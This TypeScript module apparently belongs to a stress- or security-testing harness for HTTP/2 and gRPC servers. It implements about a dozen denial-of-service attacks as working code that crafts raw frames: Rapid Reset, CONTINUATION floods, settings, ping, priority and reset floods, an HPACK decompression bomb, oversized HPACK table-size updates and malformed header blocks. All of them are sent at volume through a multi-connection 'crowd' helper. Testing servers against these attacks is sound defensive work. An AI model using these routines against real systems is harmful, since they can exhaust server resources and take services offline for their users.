import type { Attacker } from '../attacker.ts';
import {
  callFields,
  flag,
  frame,
  frameType,
  headerBlock,
  hpackInteger,
  hpackText,
  settings,
  uint32,
} from '../http2-wire.ts';
import { crowd, many, type Port } from './crowd.ts';

/** A call that both ports have for every caller. */
export const healthCheck = '/grpc.health.v1.Health/Check';
const block = headerBlock(callFields(healthCheck));
const cancel = uint32(8);

/** Opens streams and resets each at once. */
export function rapidReset(attacker: Attacker, port: Port) {
  return crowd(attacker, port, {
    act: (wire) =>
      wire.write(
        ...many(50, () => {
          const stream = wire.nextStream();
          const open = frame(frameType.headers, flag.endHeaders, stream, block);
          return Buffer.concat([open, frame(frameType.rstStream, 0, stream, cancel)]);
        }),
      ),
  });
}

/** Header blocks that never end: CONTINUATION frames without END_HEADERS, each with fields or empty. */
export function continuationFlood(attacker: Attacker, port: Port, piece = headerBlock([['x-a', 'b'.repeat(1_000)]])) {
  return crowd(attacker, port, {
    begin: (wire) => wire.write(frame(frameType.headers, 0, wire.nextStream(), block)),
    act: (wire, at) => wire.write(...many(20, () => frame(frameType.continuation, 0, 1, at % 2 ? piece : undefined))),
  });
}

/** HEADERS and CONTINUATION frames, and the connection is broken off between them. */
export function brokenContinuation(attacker: Attacker, port: Port) {
  return crowd(attacker, port, {
    act: async (wire) => {
      await wire.write(
        frame(frameType.headers, flag.endStream, wire.nextStream(), block),
        frame(frameType.continuation, 0, 1, headerBlock([['x-a', 'b'.repeat(4_000)]])),
      );
      wire.socket.resetAndDestroy();
    },
    pauseMs: 2,
  });
}

/** Settings, each of which must be acknowledged. */
export function settingsFlood(attacker: Attacker, port: Port) {
  const one = settings(many(6, (at) => [at + 1, at === 1 ? 0 : 65_536] as const).slice(2, 5));
  return crowd(attacker, port, { act: (wire) => wire.write(...many(100, (at) => (at % 2 ? settings() : one))) });
}

/** Pings, each of which must be answered, and whose answers are not read. */
export function pingFlood(attacker: Attacker, port: Port) {
  return crowd(attacker, port, {
    begin: (wire, at) => at % 2 === 1 && wire.socket.pause(),
    act: (wire) => wire.write(...many(200, () => frame(frameType.ping, 0, 0, Buffer.alloc(8)))),
  });
}

/** DATA, HEADERS and CONTINUATION frames without any content and without an end. */
export function emptyFrames(attacker: Attacker, port: Port) {
  return crowd(attacker, port, {
    begin: (wire) => wire.open(callFields(healthCheck)),
    act: (wire) => wire.write(...many(500, () => frame(frameType.data, 0, 1))),
  });
}

/** Streams that are malformed, so that the server must reset each. */
export function resetFlood(attacker: Attacker, port: Port) {
  const malformed = headerBlock([...callFields(healthCheck), ['Upper-Case', 'x']]);
  return crowd(attacker, port, {
    act: (wire) =>
      wire.write(...many(50, () => frame(frameType.headers, flag.endHeaders, wire.nextStream(), malformed))),
  });
}

/** Priorities of thousands of streams, changed again and again. */
export function priorityFlood(attacker: Attacker, port: Port) {
  let turn = 1;
  return crowd(attacker, port, {
    act: (wire) =>
      wire.write(
        ...many(300, () => {
          turn = (turn + 2) % 100_001;
          const payload = Buffer.concat([uint32((turn + 2) % 65_537), Buffer.from([turn % 256])]);
          return frame(frameType.priority, 0, turn | 1, payload);
        }),
      ),
  });
}

/** Header fields with empty names and empty values. */
export function emptyHeaders(attacker: Attacker, port: Port) {
  const fields = headerBlock(many(500, () => ['', ''] as const));
  return crowd(attacker, port, {
    act: (wire) =>
      wire.write(
        ...many(10, () => frame(frameType.headers, flag.endHeaders, wire.nextStream(), Buffer.concat([block, fields]))),
      ),
  });
}

/** Few bytes that stand for many: one large field in the table, named by one byte each time. */
export function hpackBomb(attacker: Attacker, port: Port) {
  const entry = Buffer.concat([Buffer.from([0x40]), hpackText('x-bomb'), hpackText('b'.repeat(3_900))]);
  const bomb = Buffer.concat([block, Buffer.alloc(14_000, 0xbe)]);
  return crowd(attacker, port, {
    begin: (wire) => {
      const first = Buffer.concat([block, entry]);
      return wire.write(frame(frameType.headers, flag.endHeaders | flag.endStream, wire.nextStream(), first));
    },
    act: (wire) => wire.write(...many(4, () => frame(frameType.headers, flag.endHeaders, wire.nextStream(), bomb))),
    pauseMs: 2,
  });
}

/** Changes of the table's size, many in one block, and to more than there may be. */
export function hpackTableSizes(attacker: Attacker, port: Port) {
  const sizes = Buffer.concat(many(2_000, (at) => hpackInteger(at % 2 ? 4_096 : 0, 5, 0x20)));
  const tooLarge = hpackInteger(2 ** 30, 5, 0x20);
  const endless = Buffer.from([0x3f, ...many(60, () => 0xff)]);
  return crowd(attacker, port, {
    greeting: settings([[1, 2 ** 31 - 1]]),
    act: (wire, at) => {
      const start = [sizes, tooLarge, endless][at % 3] ?? sizes;
      const payload = Buffer.concat([start, block]);
      return wire.write(frame(frameType.headers, flag.endHeaders, wire.nextStream(), payload));
    },
  });
}

/** Header blocks that are no HPACK, larger than a frame may be, and broken off by a reset of the connection. */
export function brokenHpack(attacker: Attacker, port: Port) {
  return crowd(attacker, port, {
    act: async (wire, at) => {
      const garbage = Buffer.alloc(16_000, at % 256);
      await wire.write(frame(frameType.headers, flag.endHeaders, wire.nextStream(), garbage));
      if (at % 2) wire.socket.resetAndDestroy();
    },
    pauseMs: 2,
  });
}

/** Frames of types nobody knows, which are to be ignored. */
export function unknownFrames(attacker: Attacker, port: Port) {
  return crowd(attacker, port, {
    act: (wire) => wire.write(...many(200, (at) => frame(0x20 + (at % 200), 0xff, at, Buffer.alloc(at)))),
  });
}
